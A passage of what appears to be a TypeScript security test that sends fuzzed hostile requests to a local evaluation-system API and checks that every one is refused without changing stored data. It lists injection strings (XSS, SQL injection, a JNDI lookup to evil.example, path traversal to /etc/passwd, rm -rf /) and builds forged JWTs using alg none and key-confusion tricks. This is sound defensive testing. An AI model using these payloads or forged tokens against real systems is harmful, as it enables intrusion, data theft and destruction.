/**
 * Hostile input against the real local stack (DynamoDB Local, the synthesized state machine, the local
 * HTTP API with its JWT authorizer, the real handlers): several hundred malformed or hostile requests,
 * generated with fast-check from fixed seeds, across every route — wrong types, missing fields, huge
 * and deeply nested bodies, unicode (RTL, zero-width, emoji, NUL), injection strings, forged JWTs,
 * forged cursors and forged decision links.
 *
 * Every request here is one that must be rejected, so the assertions are: each answer is a 4xx (never
 * a 5xx), problem+json bodies match the OpenAPI document's Problem schema, and the table is unchanged —
 * a full paged Scan before and after (item count and a hash of every item; a Scan is fine in a test),
 * plus no new email in the outbox. The cycle runs at real time (timeScale 1), so once its planning stage
 * waits on people the table is quiet, and any change is a request's doing.
 */
import '../../local/sfn/polyfill';
import { createHash } from 'node:crypto';
import { mkdtempSync, readdirSync } from 'node:fs';
import { request } from 'node:http';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { type AttributeValue, DynamoDBClient, ScanCommand } from '@aws-sdk/client-dynamodb';
import Ajv2020 from 'ajv/dist/2020';
import fc from 'fast-check';
import { base64url, generateKeyPair, importJWK, SignJWT } from 'jose';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { z } from 'zod';
import { LOCAL_JWT_AUDIENCE, LOCAL_JWT_ISSUER, type MintLocalTokenOptions, mintLocalToken } from '../../local/http';
import { seedRoster } from '../../local/run-cycle';
import { loadSampleAgency } from '../../local/sample/schema';
import { type LocalStack, startLocalStack } from '../../local/stack';
import { parseRosterCsv } from '../../shared/application/roster/roster-import';
import { EvaluationStatusSchema } from '../../shared/domain/lifecycle/status';
import { CommentListQuerySchema, IkmQuerySchema } from '../../shared/domain/skm/submission';
import { API_DOCS, buildOpenApiDocument, pathParamSchema } from '../../shared/http/openapi';
import { allowedMethods, METHOD_FALLBACK_ROUTES, ROUTES, type Route } from '../../shared/http/routes';

const SEED = 20_261_129;
const sample = loadSampleAgency('local/sample/asemrowo.json');
const CYCLE = `${sample.agencyId}-${sample.year}`;
const byNip = new Map(sample.employees.map((e) => [e.nip, e]));
const hr = sample.employees.find((e) => /Subbagian Umum/i.test(e.jabatan) && e.isUnitHead)!;
/** The subject: a member of staff whose rater plans too; submits an SKP during setup, so a decision exists. */
const subject = sample.employees.find(
  (e) => !e.external && !e.isUnitHead && e.raterNip && sample.plans.some((p) => p.nip === e.nip) && byNip.get(e.raterNip)?.external !== true,
)!;
const rater = byNip.get(subject.raterNip!)!;
/** Someone with no relation to the subject and no HR role. */
const outsider = sample.employees.find(
  (e) => !e.external && e.unitId !== subject.unitId && e.nip !== rater.nip && e.nip !== rater.raterNip && e.nip !== hr.nip,
)!;

let stack: LocalStack;
let port: number;
let ddb: DynamoDBClient;
const tokens = {} as Record<'hr' | 'subject' | 'rater' | 'outsider', string>;
let decisionId: string;
let validLink: Record<string, string>;
let expiredLink: Record<string, string>;
let otherRecipientLink: Record<string, string>;
let missingDecisionLink: Record<string, string>;
let before: { count: number; hash: string; outbox: number };

// ─── sending and snapshotting ──────────────────────────────────────────────────────────────────────

interface Hostile {
  category: string;
  method: string;
  /** Raw request target (already percent-encoded where needed). */
  target: string;
  headers?: Record<string, string>;
  body?: string | Buffer;
  /** A specific status when the rejection is deterministic; any 4xx otherwise. */
  expect?: number;
}
interface Answer {
  status: number;
  contentType: string;
  body: string;
  /** The Allow header (a 405's). */
  allow?: string;
}
let requests: Hostile[] = [];

function send(h: Hostile): Promise<Answer> {
  return new Promise((resolve, reject) => {
    const body = h.body === undefined ? undefined : Buffer.isBuffer(h.body) ? h.body : Buffer.from(h.body, 'utf8');
    const req = request(
      {
        host: '127.0.0.1',
        port,
        method: h.method,
        path: h.target,
        headers: { 'user-agent': 'hostile-suite/1', ...(body ? { 'content-type': 'application/json', 'content-length': body.length } : {}), ...h.headers },
      },
      (res) => {
        const chunks: Buffer[] = [];
        res.on('data', (c: Buffer) => chunks.push(c));
        res.on('end', () =>
          resolve({
            status: res.statusCode ?? 0,
            contentType: String(res.headers['content-type'] ?? ''),
            body: Buffer.concat(chunks).toString('utf8'),
            ...(res.headers.allow ? { allow: String(res.headers.allow) } : {}),
          }),
        );
        res.on('error', reject);
      },
    );
    req.on('error', reject);
    req.end(body);
  });
}

const canonical = (v: unknown): string =>
  Array.isArray(v)
    ? `[${v.map(canonical).join(',')}]`
    : v && typeof v === 'object'
      ? `{${Object.keys(v)
          .sort()
          .map((k) => `${JSON.stringify(k)}:${canonical((v as Record<string, unknown>)[k])}`)
          .join(',')}}`
      : JSON.stringify(v);

/** The whole table, paged: item count and a hash over every item (order-independent). */
async function snapshot(): Promise<{ count: number; hash: string; outbox: number }> {
  const lines: string[] = [];
  let start: Record<string, AttributeValue> | undefined;
  do {
    const page = await ddb.send(new ScanCommand({ TableName: stack.tableName, ConsistentRead: true, ExclusiveStartKey: start }));
    for (const item of page.Items ?? []) lines.push(canonical(item));
    start = page.LastEvaluatedKey;
  } while (start);
  lines.sort();
  return { count: lines.length, hash: createHash('sha256').update(lines.join('\n')).digest('hex'), outbox: readdirSync(stack.outboxDir).length };
}

async function api(method: string, target: string, token?: string, body?: unknown) {
  const res = await send({
    category: 'setup',
    method,
    target,
    headers: token ? { authorization: `Bearer ${token}` } : {},
    ...(body !== undefined ? { body: JSON.stringify(body) } : {}),
  });
  return { status: res.status, body: res.body ? JSON.parse(res.body) : undefined };
}
const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

beforeAll(async () => {
  stack = await startLocalStack({ workDir: mkdtempSync(path.join(tmpdir(), 'asn-hostile-')), timeScale: 1 });
  port = Number(new URL(stack.apiUrl).port);
  ddb = new DynamoDBClient({ endpoint: stack.dynamoEndpoint, region: 'ap-southeast-3', credentials: { accessKeyId: 'local', secretAccessKey: 'local' } });
  await seedRoster(sample);
  tokens.hr = await stack.token(hr.nip, ['hr', 'employee']);
  tokens.subject = await stack.token(subject.nip, ['employee']);
  tokens.rater = await stack.token(rater.nip, ['employee']);
  tokens.outsider = await stack.token(outsider.nip, ['employee']);

  // A cycle with data: created as HR; once planning is open, the subject submits an SKP (a pending decision).
  const created = await api('POST', '/v1/cycles', tokens.hr, { year: sample.year });
  expect(created.status, JSON.stringify(created.body)).toBe(201);
  for (let i = 0; ; i++) {
    const detail = await api('GET', `/v1/cycles/${CYCLE}/evaluations/${subject.nip}`, tokens.subject);
    if (detail.status === 200) break;
    if (i > 100) throw new Error(`planning did not open: ${JSON.stringify(detail.body)}`);
    await sleep(200);
  }
  const skp = await api('PUT', `/v1/cycles/${CYCLE}/evaluations/${subject.nip}/skp`, tokens.subject, sample.plans.find((p) => p.nip === subject.nip)!.skp);
  expect(skp.status, JSON.stringify(skp.body)).toBe(200);
  decisionId = (await api('GET', `/v1/cycles/${CYCLE}/evaluations/${subject.nip}`, tokens.subject)).body.evaluation.pendingDecisionId;
  expect(decisionId).toBeTruthy();

  // A genuine link for the rater, signed with the stack's key (the handlers run in this process).
  const { deps } = await import('../../shared/composition');
  const { signDecisionLink } = await import('../../shared/adapters/links/links');
  const keys = await deps.linkKeys().keys();
  validLink = { ...signDecisionLink({ decisionId, action: 'approve', recipient: rater.nip, expiresAt: Math.floor(Date.now() / 1000) + 3600 }, keys.current) };
  expiredLink = { ...signDecisionLink({ decisionId, action: 'approve', recipient: rater.nip, expiresAt: Math.floor(Date.now() / 1000) - 60 }, keys.current) };
  otherRecipientLink = {
    ...signDecisionLink({ decisionId, action: 'approve', recipient: outsider.nip, expiresAt: Math.floor(Date.now() / 1000) + 3600 }, keys.current),
  };
  missingDecisionLink = {
    ...signDecisionLink(
      { decisionId: 'd9999999999999999999999999999999', action: 'approve', recipient: rater.nip, expiresAt: Math.floor(Date.now() / 1000) + 3600 },
      keys.current,
    ),
  };

  // Quiet: the planning stage waits on people (a one-day task-token timeout at real time).
  let last = await snapshot();
  for (let stable = 0, i = 0; stable < 3; i++) {
    await sleep(300);
    const now = await snapshot();
    stable = now.hash === last.hash ? stable + 1 : 0;
    last = now;
    if (i > 100) throw new Error('the table did not settle');
  }
  before = last;
  requests = await buildRequests();
}, 120_000);
afterAll(async () => {
  await stack?.stop();
});

// ─── what hostile looks like ───────────────────────────────────────────────────────────────────────

const INJECTIONS = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' OR 1=1 --",
  "'; DROP TABLE evaluations; --",
  '${jndi:ldap://evil.example/a}',
  '{"$ne":null}',
  '../../etc/passwd',
  '..%2F..%2Fetc%2Fpasswd',
  '%00',
  '{{7*7}}',
  '#{7*7}',
  '`rm -rf /`',
  'PK = :pk OR attribute_exists(PK)',
  'EVAL#kec-asemrowo-2026#199001012015031001',
  'CYCLE#x#UNIT#y',
  '__proto__',
  'constructor',
  'null',
  'undefined',
  'NaN',
  '-1',
  '1e309',
  '0x7fffffff',
];
const UNICODE = [
  '\u202Ekiri-ke-kanan\u202C',
  'ab\u200Bcd\u200D',
  '\uFEFFbom',
  '😀👩🏽‍💻🇮🇩',
  '\u0000',
  'nul\u0000byte',
  'ﷺ',
  '١٩٩٠٠١٠١٢٠١٥٠٣١٠٠١',
  '１９９０',
  'e\u0301',
  '\uD800',
  'Ω≈ç√∫',
  '\u0085\u2028\u2029',
  'İı',
];
const hostileString = fc.oneof(
  fc.constantFrom(...INJECTIONS, ...UNICODE),
  fc.tuple(fc.constantFrom(...INJECTIONS), fc.constantFrom(...UNICODE)).map(([a, b]) => `${b}${a}${b}`),
  fc.string({ unit: 'grapheme', minLength: 1, maxLength: 24 }),
  fc.string({ unit: 'binary', minLength: 1, maxLength: 24 }),
  fc.string({ minLength: 65, maxLength: 300 }),
);
const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  hostileString,
  fc.constantFrom(
    null,
    true,
    false,
    0,
    -1,
    1.5,
    1e308,
    -1e308,
    Number.MAX_SAFE_INTEGER + 2,
    [],
    {},
    [null],
    { $ne: null },
    { $gt: '' },
    { __proto__: { hr: true } },
  ),
  fc.array(hostileString, { maxLength: 3 }),
  fc.dictionary(hostileString, hostileString, { maxKeys: 3 }),
);

const ROUTE_KEY = (r: Route) => `${r.method} ${r.path}`;
const VALID_PARAMS = () => ({
  cycleId: CYCLE,
  nip: subject.nip,
  unitId: subject.unitId,
  commentId: 'cmtunknown000001',
  decisionId,
  kioskId: 'kioskunknown00001',
  raterNip: rater.nip,
  periodId: 'Q1',
  evidenceId: 'evunknown0001',
  sessionId: 'S1',
  code: 'UNKNOWNDOC000001',
});
/** Percent-encodes every byte outside the unreserved set (lone surrogates become U+FFFD, as a browser would send). */
const pct = (s: string) =>
  [...Buffer.from(s, 'utf8')]
    .map((b) => (/[A-Za-z0-9\-._~]/.test(String.fromCharCode(b)) ? String.fromCharCode(b) : `%${b.toString(16).toUpperCase().padStart(2, '0')}`))
    .join('');
const fill = (template: string, params: Record<string, string>) => template.replace(/\{(\w+)\}/g, (_, n: string) => pct(params[n]!));
/** The caller who may use a route (so only the hostile part can make it fail). */
function allowedToken(r: Route): string | undefined {
  if (r.auth === 'none') return undefined;
  if (/\/(skp|progress|objection)$/.test(r.path) || r.path.endsWith('/evaluations/{nip}')) return tokens.subject;
  if (/\/(feedback|midyear-review|rating)$/.test(r.path)) return tokens.rater;
  if (r.path === '/v1/delegations') return tokens.rater;
  return tokens.hr;
}
const auth = (token: string | undefined): Record<string, string> => (token ? { authorization: `Bearer ${token}` } : {});
const exampleOf = (r: Route) => API_DOCS[ROUTE_KEY(r)]!.body;
const isJsonBody = (r: Route) => {
  const b = exampleOf(r);
  return !!b && (b.contentType ?? 'application/json') === 'application/json';
};

function leafPaths(v: unknown, at: (string | number)[] = []): (string | number)[][] {
  if (Array.isArray(v)) return v.flatMap((x, i) => leafPaths(x, [...at, i]));
  if (v && typeof v === 'object') return [...(at.length ? [at] : []), ...Object.entries(v).flatMap(([k, x]) => leafPaths(x, [...at, k]))];
  return [at];
}
function setAt(v: unknown, at: (string | number)[], value: unknown): unknown {
  const copy = structuredClone(v) as Record<string | number, unknown>;
  let node = copy;
  for (const k of at.slice(0, -1)) node = node[k] as Record<string | number, unknown>;
  if (value === undefined) delete node[at[at.length - 1]!];
  else node[at[at.length - 1]!] = value;
  return copy;
}

async function forgedTokens(): Promise<{ name: string; header: string }[]> {
  const claims = { sub: hr.nip, 'custom:nip': hr.nip, 'cognito:groups': ['hr', 'employee'], 'custom:agencyId': sample.agencyId, token_use: 'id' };
  const kid = stack.jwtKeys.kid;
  const now = Math.floor(Date.now() / 1000);
  const { privateKey: wrongKey } = await generateKeyPair('RS256', { extractable: true });
  const enc = (o: object) => base64url.encode(JSON.stringify(o));
  const genuine = await stack.token(hr.nip, ['hr', 'employee']);
  const [h, , s] = genuine.split('.');
  const signingKey = await importJWK(stack.jwtKeys.privateJwk, 'RS256');
  /** A token signed with the stack's own key, with `change` applied to the claims (undefined removes one). */
  const signed = (change: Record<string, unknown>) =>
    new SignJWT(JSON.parse(JSON.stringify({ ...claims, ...change })))
      .setProtectedHeader({ alg: 'RS256', kid })
      .setIssuer(LOCAL_JWT_ISSUER)
      .setAudience(LOCAL_JWT_AUDIENCE)
      .setIssuedAt()
      .setExpirationTime('1h')
      .sign(signingKey);
  const mint = (extra: Partial<MintLocalTokenOptions>) =>
    mintLocalToken(stack.jwtKeys, { sub: hr.nip, roles: ['hr', 'employee'], agencyId: sample.agencyId, ...extra });
  return [
    { name: 'no Authorization header', header: '' },
    { name: 'Bearer without a token', header: 'Bearer ' },
    { name: 'Basic credentials', header: `Basic ${Buffer.from('hr:hr').toString('base64')}` },
    { name: 'garbage', header: 'Bearer eyJ.hostile.token' },
    {
      name: 'alg none',
      header: `Bearer ${enc({ alg: 'none', typ: 'JWT', kid })}.${enc({ ...claims, iss: LOCAL_JWT_ISSUER, aud: LOCAL_JWT_AUDIENCE, exp: now + 3600, iat: now })}.`,
    },
    {
      name: 'HS256 with the key id',
      header: `Bearer ${await new SignJWT({ ...claims })
        .setProtectedHeader({ alg: 'HS256', kid })
        .setIssuer(LOCAL_JWT_ISSUER)
        .setAudience(LOCAL_JWT_AUDIENCE)
        .setIssuedAt()
        .setExpirationTime('1h')
        .sign(new TextEncoder().encode(kid.padEnd(32, 'k')))}`,
    },
    {
      name: 'RS256 signed by another key',
      header: `Bearer ${await new SignJWT({ ...claims }).setProtectedHeader({ alg: 'RS256', kid }).setIssuer(LOCAL_JWT_ISSUER).setAudience(LOCAL_JWT_AUDIENCE).setIssuedAt().setExpirationTime('1h').sign(wrongKey)}`,
    },
    { name: 'expired', header: `Bearer ${await mint({ expiresIn: -60 })}` },
    { name: 'wrong issuer', header: `Bearer ${await mint({ issuer: 'https://cognito-idp.ap-southeast-3.amazonaws.com/evil' })}` },
    { name: 'wrong audience', header: `Bearer ${await mint({ audience: 'another-app' })}` },
    { name: 'issued in the future', header: `Bearer ${await mint({ now: new Date(Date.now() + 3_600_000) })}` },
    // Genuinely signed but without an agency claim: no fallback to the deployment's agency (issue #12).
    { name: 'genuine signature, no agency claim', header: `Bearer ${await signed({ 'custom:agencyId': undefined })}` },
    { name: 'genuine signature, empty agency claim', header: `Bearer ${await signed({ 'custom:agencyId': '' })}` },
    {
      name: 'payload swapped under a genuine signature',
      header: `Bearer ${h}.${enc({ ...claims, 'custom:nip': outsider.nip, iss: LOCAL_JWT_ISSUER, aud: LOCAL_JWT_AUDIENCE, exp: now + 3600 })}.${s}`,
    },
  ];
}

async function buildRequests(): Promise<Hostile[]> {
  const out: Hostile[] = [];
  const sampleOf = <T>(arb: fc.Arbitrary<T>, n: number, offset: number) => fc.sample(arb, { seed: SEED + offset, numRuns: n });
  const jwtRoutes = ROUTES.filter((r) => r.auth === 'jwt');

  // 1 · forged JWTs on every JWT route, each with a valid body an HR caller could send.
  for (const forged of await forgedTokens()) {
    for (const r of jwtRoutes) {
      const body = exampleOf(r);
      out.push({
        category: `forged JWT: ${forged.name}`,
        method: r.method,
        target: fill(r.path, VALID_PARAMS()),
        expect: 401,
        headers: forged.header ? { authorization: forged.header } : {},
        ...(body
          ? {
              body: typeof body.example === 'string' ? body.example : JSON.stringify(body.example),
              headers: { ...(forged.header ? { authorization: forged.header } : {}), 'content-type': body.contentType ?? 'application/json' },
            }
          : {}),
      });
    }
  }

  // 2 · a valid JWT without the scope: an unrelated employee on HR routes and on the subject's records.
  for (const r of jwtRoutes.filter(
    (x) => allowedToken(x) === tokens.hr || /\/(skp|progress|objection|midyear-review|rating)$|\/evaluations\/\{nip\}$/.test(x.path),
  )) {
    if (r.path === '/v1/cycles/{cycleId}/evaluations' || r.path === '/v1/delegations') continue; // open to any employee (own team / own authority)
    if (r.path.startsWith('/v1/me')) continue; // the caller's own tasks and decisions: no one else's scope to leave
    const body = exampleOf(r);
    out.push({
      category: 'valid JWT, out of scope',
      method: r.method,
      target: fill(r.path, VALID_PARAMS()),
      headers: { ...auth(tokens.outsider), ...(body ? { 'content-type': body.contentType ?? 'application/json' } : {}) },
      ...(body ? { body: typeof body.example === 'string' ? body.example : JSON.stringify(body.example) } : {}),
    });
  }

  // 2b · the roles claim as one free-text string ("hr employee"), genuinely signed: it grants nothing,
  // so every route that needs the HR role answers 403 (issue #12).
  const signingKey = await importJWK(stack.jwtKeys.privateJwk, 'RS256');
  const oneString = await new SignJWT({ 'custom:nip': hr.nip, 'cognito:groups': 'hr employee', 'custom:agencyId': sample.agencyId, token_use: 'id' })
    .setProtectedHeader({ alg: 'RS256', kid: stack.jwtKeys.kid })
    .setIssuer(LOCAL_JWT_ISSUER)
    .setAudience(LOCAL_JWT_AUDIENCE)
    .setIssuedAt()
    .setExpirationTime('1h')
    .sign(signingKey);
  for (const r of jwtRoutes) {
    // The routes that need the HR role itself (HR's NIP may also be someone's rater on the others).
    const needsHrRole = r.functionId === 'hr-api' || r.path.startsWith('/v1/skm/');
    if (!needsHrRole || r.path === '/v1/cycles/{cycleId}/evaluations') continue;
    const body = exampleOf(r);
    out.push({
      category: 'roles claim as one string "hr employee"',
      method: r.method,
      target: fill(r.path, VALID_PARAMS()),
      expect: 403,
      headers: { authorization: `Bearer ${oneString}`, ...(body ? { 'content-type': body.contentType ?? 'application/json' } : {}) },
      ...(body ? { body: typeof body.example === 'string' ? body.example : JSON.stringify(body.example) } : {}),
    });
  }

  // 3 · hostile path parameters (the first parameter of the route made invalid, the rest valid).
  const withParams = ROUTES.filter((r) => r.path.includes('{'));
  withParams.forEach((r, i) => {
    const names = [...r.path.matchAll(/\{(\w+)\}/g)].map((m) => m[1]!);
    const victim = names[0]!;
    const schema = pathParamSchema(ROUTE_KEY(r), victim)!;
    const values = sampleOf(
      hostileString.filter((v) => !(schema as z.ZodType).safeParse(v).success),
      7,
      100 + i,
    );
    const second = names[1]
      ? sampleOf(
          hostileString.filter((v) => !(pathParamSchema(ROUTE_KEY(r), names[1]!) as z.ZodType).safeParse(v).success),
          2,
          200 + i,
        )
      : [];
    const body = exampleOf(r);
    const bodyInit = body ? { body: typeof body.example === 'string' ? body.example : JSON.stringify(body.example) } : {};
    for (const v of values)
      out.push({
        category: `hostile path parameter ${victim}`,
        method: r.method,
        target: fill(r.path, { ...VALID_PARAMS(), [victim]: v }),
        headers: auth(allowedToken(r)),
        ...bodyInit,
      });
    for (const v of second)
      out.push({
        category: `hostile path parameter ${names[1]}`,
        method: r.method,
        target: fill(r.path, { ...VALID_PARAMS(), [names[1]!]: v }),
        headers: auth(allowedToken(r)),
        ...bodyInit,
      });
  });
  // Traversal and odd methods never reach a handler.
  for (const t of [
    '/v1/cycles/../../etc/passwd',
    '/v1/../openapi.json/..',
    '/v1/cycles/%2e%2e/%2e%2e/etc/passwd',
    '/v1/cycles/x/evaluations/y/skp/extra',
    // (`//v1/cycles`, `/V1/CYCLES`: outside /v1/, the web app's paths — its index.html, test/integration/local-platform.test.ts.)
  ]) {
    out.push({ category: 'path traversal / unknown path', method: 'GET', target: t, headers: auth(tokens.hr) });
  }
  // A method no route serves on a known path: the path's ANY route, 405 with Allow (issue 17), token or not.
  for (const m of ['DELETE', 'PATCH', 'OPTIONS', 'TRACE', 'HEAD'])
    out.push({ category: 'unrouted method', method: m, target: `/v1/cycles/${CYCLE}`, headers: auth(tokens.hr), expect: 405 });
  for (const m of ['PATCH', 'TRACE'])
    for (const r of METHOD_FALLBACK_ROUTES)
      out.push({ category: 'unrouted method (every path, no token)', method: m, target: fill(r.path, VALID_PARAMS()), expect: 405 });

  // 4 · hostile bodies: a leaf of the example replaced, a field removed, or the body not an object —
  // only what the handler's own zod schema rejects (so every one of them must be refused).
  const bodyRoutes = ROUTES.filter((r) => isJsonBody(r) && r.path !== '/v1/cycles/{cycleId}/resume');
  bodyRoutes.forEach((r, i) => {
    const doc = exampleOf(r)!;
    const schema = doc.schema as z.ZodType;
    const example = doc.example;
    const paths = leafPaths(example);
    const mutated = fc
      .oneof(
        fc.tuple(fc.constantFrom(...paths), hostileValue).map(([p, v]) => setAt(example, p, v)),
        fc.constantFrom(...paths).map((p) => setAt(example, p, undefined)),
        hostileValue.filter((v) => typeof v !== 'object' || Array.isArray(v) || v === null),
        fc.tuple(fc.constantFrom(...paths), hostileValue).map(([p, v]) => ({ __proto_attack__: true, ...(setAt(example, p, v) as object) })),
      )
      // Judged as sent: JSON turns an undefined array item into null (a skipped SKM element is valid).
      .filter((b) => !schema.safeParse(JSON.parse(JSON.stringify(b) ?? 'null')).success);
    for (const b of sampleOf(mutated, 10, 300 + i)) {
      const text = JSON.stringify(b)?.replace('"__proto_attack__":true', '"__proto__":{"roles":["hr"],"isHr":true}') ?? 'null';
      out.push({
        category: 'hostile body (wrong type, missing field, unicode, injection)',
        method: r.method,
        target: fill(r.path, VALID_PARAMS()),
        headers: auth(allowedToken(r)),
        body: text,
      });
    }
    // Not JSON at all.
    for (const raw of ['{', '{"year":2026,}', "{'year':2026}", 'NaN', '\u0000', '{"a":"\\ud8', '\uFEFF{}x', '[1,2,3']) {
      out.push({ category: 'body is not JSON', method: r.method, target: fill(r.path, VALID_PARAMS()), headers: auth(allowedToken(r)), body: raw });
    }
  });

  // 5 · huge bodies: over the local API's 1 MiB (API Gateway itself answers), and between 256 KB and
  // 1 MiB (the handler answers) — valid JSON, with an allowed caller.
  for (const r of ROUTES) {
    out.push({
      category: 'huge body (> 1 MiB, API Gateway limit)',
      method: r.method === 'HEAD' ? 'POST' : r.method,
      target: fill(r.path, VALID_PARAMS()),
      headers: auth(allowedToken(r)),
      body: `{"pad":"${'x'.repeat(1024 * 1024)}"}`,
      expect: 413,
    });
  }
  for (const r of bodyRoutes) {
    const example = exampleOf(r)!.example as Record<string, unknown>;
    const limit = r.auth === 'none' ? 8 * 1024 : 256 * 1024;
    out.push({
      category: 'huge body (over the handler limit)',
      method: r.method,
      target: fill(r.path, VALID_PARAMS()),
      headers: auth(allowedToken(r)),
      body: JSON.stringify({ ...example, pad: 'x'.repeat(limit + 10) }),
      expect: 413,
    });
  }

  // 6 · deep nesting.
  bodyRoutes.forEach((r) => {
    const example = exampleOf(r)!.example as Record<string, unknown>;
    const first = Object.keys(example)[0]!;
    for (const depth of [1_000, 20_000, 120_000]) {
      const nested = `${'['.repeat(depth)}${']'.repeat(depth)}`;
      const text = JSON.stringify({ ...example, [first]: 0 }).replace(`"${first}":0`, `"${first}":${nested}`);
      out.push({ category: 'deeply nested body', method: r.method, target: fill(r.path, VALID_PARAMS()), headers: auth(allowedToken(r)), body: text });
    }
    out.push({
      category: 'deeply nested body',
      method: r.method,
      target: fill(r.path, VALID_PARAMS()),
      headers: auth(allowedToken(r)),
      body: `${'{"a":'.repeat(30_000)}1${'}'.repeat(30_000)}`,
    });
  });

  // 7 · hostile query strings.
  const q = (params: Record<string, string>) => `?${new URLSearchParams(params).toString()}`;
  const listArb = fc
    .record({
      unitId: fc.oneof(fc.constant(subject.unitId), fc.string({ minLength: 65, maxLength: 200 })),
      status: fc.oneof(fc.constant('SKP_DRAFT'), hostileString),
      limit: fc.oneof(fc.constantFrom('0', '-1', '501', '1e9', 'abc', '1.5', '', '10'), hostileString),
    })
    .filter(
      (x) =>
        !(x.unitId.length <= 64 && EvaluationStatusSchema.safeParse(x.status).success && z.coerce.number().int().min(1).max(500).safeParse(x.limit).success),
    );
  for (const x of sampleOf(listArb, 20, 400))
    out.push({ category: 'hostile query (list filters)', method: 'GET', target: `/v1/cycles/${CYCLE}/evaluations${q(x)}`, headers: auth(tokens.hr) });
  const commentsArb = fc
    .record({
      status: fc.oneof(fc.constant('PENDING'), hostileString),
      unitId: fc.oneof(fc.constant(subject.unitId), hostileString),
      limit: fc.oneof(fc.constantFrom('0', '101', 'abc', '10'), hostileString),
    })
    .filter((x) => !CommentListQuerySchema.safeParse(x).success);
  for (const x of sampleOf(commentsArb, 15, 401))
    out.push({ category: 'hostile query (SKM comments)', method: 'GET', target: `/v1/skm/comments${q(x)}`, headers: auth(tokens.hr) });
  for (const period of sampleOf(
    fc
      .oneof(hostileString, fc.constantFrom('2026-13', '2026-00', '26-01', '2026-1', '2026-01-01'))
      .filter((period) => !IkmQuerySchema.safeParse({ period }).success),
    10,
    402,
  )) {
    out.push({ category: 'hostile query (IKM period)', method: 'GET', target: `/v1/public/units/${subject.unitId}/ikm${q({ period })}` });
  }

  // 8 · forged and garbled pagination cursors (the HR list and the SKM moderation queue).
  const cursors = [
    ...sampleOf(hostileString, 8, 500),
    ...sampleOf(
      fc.string({ unit: 'binary', minLength: 1, maxLength: 40 }).map((s) => Buffer.from(s).toString('base64url')),
      4,
      501,
    ),
    Buffer.from('[1,2,3]').toString('base64url'),
    Buffer.from('{"PK":{"S":"x"}}').toString('base64url'),
    Buffer.from('"just a string"').toString('base64url'),
    Buffer.from(JSON.stringify({ PK: 'x'.repeat(400) })).toString('base64url'),
    'x'.repeat(2001),
  ];
  for (const cursor of cursors) {
    out.push({
      category: 'forged cursor (HR list)',
      method: 'GET',
      target: `/v1/cycles/${CYCLE}/evaluations${q({ unitId: subject.unitId, cursor })}`,
      headers: auth(tokens.hr),
      expect: 400,
    });
    out.push({ category: 'forged cursor (SKM queue)', method: 'GET', target: `/v1/skm/comments${q({ cursor })}`, headers: auth(tokens.hr), expect: 400 });
  }
  for (const key of [
    { PK: 'x', SK: 'y' },
    { GSI1PK: `CYCLE#${CYCLE}#UNIT#${subject.unitId}`, GSI1SK: 'STATUS#SKP_DRAFT#0', PK: 'EVAL#x', SK: 'EVAL' },
  ]) {
    const payload = Buffer.from(JSON.stringify(key)).toString('base64url');
    out.push({
      category: 'forged cursor (SKM queue)',
      method: 'GET',
      target: `/v1/skm/comments${q({ cursor: `${payload}.${'A'.repeat(43)}` })}`,
      headers: auth(tokens.hr),
      expect: 400,
    });
  }

  // 9 · forged decision links: GET (page), HEAD (a scanner) and POST (the form) — never a genuine POST.
  // Real links carry d in the path only.
  const link = (fields: Record<string, string>, id = decisionId) =>
    `/v1/decisions/${pct(id)}${q(Object.fromEntries(Object.entries(fields).filter(([f]) => f !== 'd')))}`;
  const flip = (s: string, at: number) => `${s.slice(0, at)}${s[at] === 'A' ? 'B' : 'A'}${s.slice(at + 1)}`;
  const forgedLinks: [string, Record<string, string>, string?][] = [
    ['tampered signature', { ...validLink, s: flip(validLink.s!, 5) }],
    ['altered expiry', { ...validLink, e: String(Number(validLink.e) + 86_400) }],
    ['altered action', { ...validLink, a: 'return' }],
    ['altered recipient tag', { ...validLink, r: flip(validLink.r!, 0) }],
    ['unknown key id', { ...validLink, k: 'k-forged' }],
    ['another decision id', validLink, 'd0000000000000000000000000000042'],
    ['expired (genuinely signed)', expiredLink],
    ['signed for someone else', otherRecipientLink],
    ['signed for a decision that does not exist', missingDecisionLink, missingDecisionLink.d],
    ['missing signature', Object.fromEntries(Object.entries(validLink).filter(([f]) => f !== 's'))],
    ['expiry not a number', { ...validLink, e: '1e10' }],
    ['injection in the fields', { ...validLink, a: "approve' OR 1=1 --", r: '<script>alert(1)</script>' }],
    ['hostile decision id in the path', validLink, '../../etc/passwd'],
    ...sampleOf(fc.nat({ max: 42 }), 8, 600).map(
      (at) => ['fast-check signature flip', { ...validLink, s: flip(validLink.s!, at) }] as [string, Record<string, string>],
    ),
  ];
  for (const [name, fields, id] of forgedLinks) {
    out.push({ category: `forged decision link: ${name}`, method: 'GET', target: link(fields, id) });
    out.push({ category: `forged decision link: ${name}`, method: 'HEAD', target: link(fields, id) });
    const form = new URLSearchParams({
      ...Object.fromEntries(Object.entries(fields).filter(([f]) => f !== 'd')),
      decision: 'approve',
      comment: 'Setuju',
    }).toString();
    out.push({
      category: `forged decision link: ${name}`,
      method: 'POST',
      target: `/v1/decisions/${pct(id ?? decisionId)}`,
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      body: form,
    });
  }
  // A genuine link with a form that must be refused: a return without a reason, an unknown decision.
  for (const form of [
    { decision: 'return', comment: '   ' },
    { decision: 'maybe', comment: 'x' },
    { decision: 'approve', comment: 'x'.repeat(2001) },
    { decision: '', comment: '' },
  ]) {
    out.push({
      category: 'genuine link, refused form',
      method: 'POST',
      target: `/v1/decisions/${decisionId}`,
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      body: new URLSearchParams({ ...validLink, ...form }).toString(),
      expect: 422,
    });
  }
  // The same field twice (the first signed, the second forged).
  out.push({
    category: 'forged decision link: duplicated field',
    method: 'POST',
    target: `/v1/decisions/${decisionId}`,
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
    body: `${new URLSearchParams({ ...validLink, decision: 'approve' }).toString()}&a=return`,
  });

  // 10 · roster CSVs the importer refuses (all or nothing: one bad row and nothing is stored).
  const csv = API_DOCS['POST /v1/roster/import']!.body!.example as string;
  const rows = csv
    .split('\r\n')
    .filter(Boolean)
    .map((line) => line.split(';'));
  const csvArb = fc
    .oneof(
      fc
